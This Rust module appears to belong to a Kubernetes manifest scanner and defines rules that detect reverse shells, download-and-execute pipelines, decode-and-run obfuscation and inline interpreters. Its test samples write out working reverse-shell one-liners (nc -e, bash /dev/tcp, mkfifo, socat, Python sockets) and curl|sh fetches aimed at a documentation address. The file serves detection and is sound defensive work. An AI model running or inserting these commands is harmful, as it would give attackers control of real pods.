//! What is run: rules over the invocations that scripts and argument vectors come to.
//!
//! Only words in command position count. A program that is neither a shell nor a known tool has arguments, not
//! commands: a job that prints a text about attacks does not attack.

mod code;
mod evidence;
mod fetch;
mod shells;

use super::catalog::{RULE, Rule, Sample};
use super::facts::{Facts, Run};
use super::findings::Collector;
use crate::normalize::{Execution, Invocation};
use crate::score::Family;
use crate::severity::Severity;
use evidence::evidence;

const COMMAND: Rule = Rule { family: Family::Command, ..RULE };

pub(super) static RULES: &[Rule] = &[
    Rule {
        id: "cmd-reverse-shell",
        message: "opens a shell to a remote host",
        meaning: "A shell is connected to the network: whoever listens at the other end controls the pod.",
        false_positives: "Waiting for a port with nc -z or an echo into /dev/tcp is not one, and is not reported.",
        severity: Severity::High,
        points: 50,
        techniques: &["T1059.004", "T1095"],
        check: |facts, found| each_match(facts, found, shells::is_reverse_shell),
        samples: &[
            Sample::Hit(
                50,
                "containers: [{name: a, command: [/bin/sh, -c], args: ['nc 192.0.2.10 4444 -e /bin/sh']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, image: ncat, args: ['192.0.2.10', '4444', --exec, /bin/bash]}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [bash, -c, 'bash -i >& /dev/tcp/192.0.2.10/443 0>&1']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [sh, -c, 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 192.0.2.10 443 > /tmp/f']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [socat, 'TCP:192.0.2.10:443', 'EXEC:/bin/bash,pty']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, command: [python3, -c, 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.10\",443));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])']}]",
            ),
            Sample::Hit(
                50,
                "containers: [{name: a, lifecycle: {postStart: {exec: {command: [sh, -c, 'n\"\"c${IFS}-e /bin/sh 192.0.2.10 1']}}}}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'until nc -z db 5432; do sleep 1; done']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [bash, -c, 'until (echo > /dev/tcp/db/5432); do sleep 1; done']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [bash, -c, 'exec 3<>/dev/tcp/db/5432 && echo up']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [echo, 'bash -i >& /dev/tcp/192.0.2.10/443 0>&1']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [python3, -c, 'import socket; socket.create_connection((\"db\", 5432))']}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-download-exec",
        message: "runs what it downloads, without storing it",
        meaning: "What is run is decided by the server at the time of the request; nobody has reviewed it.",
        false_positives: "Installers that are documented as `curl … | sh`.",
        severity: Severity::High,
        points: 45,
        techniques: &["T1105", "T1059.004"],
        check: |facts, found| each_match(facts, found, fetch::runs_download),
        samples: &[
            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/x | sh']}]"),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'bash <(wget -qO- http://192.0.2.10/x)']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'eval \"$(curl -s http://192.0.2.10/x)\"']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, '(curl http://192.0.2.10/x || wget -O- http://192.0.2.10/x) | python3']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -s http://svc/health | grep ok']}]"),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/data | python3 transform.py']}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-download-run",
        message: "downloads a program and runs it",
        meaning: "A file is fetched, made executable and run: what it is depends on the server.",
        false_positives: "Fetching a released tool, better done with an image; a checksum in between makes it less.",
        severity: Severity::High,
        points: 45,
        techniques: &["T1105"],
        check: |facts, found| {
            for run in &facts.runs {
                if let Some(hit) = fetch::runs_downloaded_file(&run.execution) {
                    let (severity, points) =
                        if hit.verified { (Severity::Medium, 30) } else { (Severity::High, 45) };
                    let evidence = evidence(run, hit.invocation);
                    found.hit_as(severity, points, Some(&run.container.name), run.path(), &evidence);
                }
            }
        },
        samples: &[
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl -o /tmp/m http://192.0.2.10/m && chmod +x /tmp/m && /tmp/m']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'cd /tmp; wget http://192.0.2.10/m; chmod 755 m; ./m --go']}]",
            ),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [sh, -c, 'curl http://192.0.2.10/s > /tmp/s; sh /tmp/s']}]",
            ),
            Sample::Hit(
                30,
                "containers: [{name: a, command: [sh, -c, 'curl -o t https://x.test/t && echo \"00 t\" | sha256sum -c && chmod +x t && ./t']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'curl -o /data/feed.json http://svc/feed && /app/import /data/feed.json']}]",
            ),
            Sample::Miss("containers: [{name: a, command: [sh, -c, 'chmod +x /app/run && /app/run']}]"),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-obfuscated",
        message: "runs text that it decodes first",
        meaning: "The script is hidden from whoever reads the manifest, and from most scanners.",
        false_positives: "Decoding into a file is not it, and is not reported.",
        severity: Severity::High,
        points: 45,
        techniques: &["T1027", "T1140"],
        check: |facts, found| each_match(facts, found, fetch::runs_decoded),
        samples: &[
            Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'echo aWQ= | base64 -d | sh']}]"),
            Sample::Hit(
                45,
                "containers: [{name: a, command: [bash, -c, 'eval \"$(echo 6964 | xxd -r -p)\"']}]",
            ),
            Sample::Miss(
                "containers: [{name: a, command: [sh, -c, 'echo \"$CERT\" | base64 -d > /tls/ca.crt']}]",
            ),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-downloader",
        message: "downloads with a command-line tool",
        meaning: "Alone it says little; together with other findings it shows where the payload comes from.",
        false_positives: "Health checks, web hooks, data feeds.",
        severity: Severity::None,
        points: 3,
        techniques: &["T1105"],
        check: |facts, found| each_match(facts, found, |_, invocation| fetch::is_downloader(invocation)),
        samples: &[
            Sample::Hit(3, "containers: [{name: a, command: [curl, -sf, 'http://svc/health']}]"),
            Sample::Miss("containers: [{name: a, command: [echo, curl]}]"),
        ],
        ..COMMAND
    },
    Rule {
        id: "cmd-interpreter-inline",
        message: "runs a program given on the command line",
        meaning: "The code stands in the manifest, not in an image that was scanned and reviewed.",
        false_positives: "Everyday one-liners.",
        severity: Severity::None,
        points: 3,
        techniques: &["T1059"],
        check: |facts, found| each_match(facts, found, |_, invocation| code::inline(invocation).is_some()),
        samples: &[
            Sample::Hit(3, "containers: [{name: a, command: [python3, -c, 'print(1)']}]"),
            Sample::Hit(3, "containers: [{name: a, command: [sh, -c, 'perl -e 1']}]"),
            Sample::Miss("containers: [{name: a, command: [python3, script.py, -c, x]}]"),
        ],
        ..COMMAND
    },
];

/// Adds a hit for each invocation that matches: the first of each argument vector is the evidence.
fn each_match(facts: &Facts<'_>, found: &mut Collector<'_>, matches: impl Fn(&Run<'_>, &Invocation) -> bool) {
    for run in &facts.runs {
        if let Some(invocation) = run.execution.commands.iter().find(|invocation| matches(run, invocation)) {
            found.hit(Some(&run.container.name), run.path(), &evidence(run, invocation));
        }
    }
}

/// The invocations whose output this one reads.
fn inputs<'a>(execution: &'a Execution, invocation: &Invocation) -> impl Iterator<Item = &'a Invocation> {
    let indices: Vec<usize> = invocation.inputs.iter().flat_map(|span| span.indices()).collect();
    indices.into_iter().filter_map(|index| execution.commands.get(index))
}
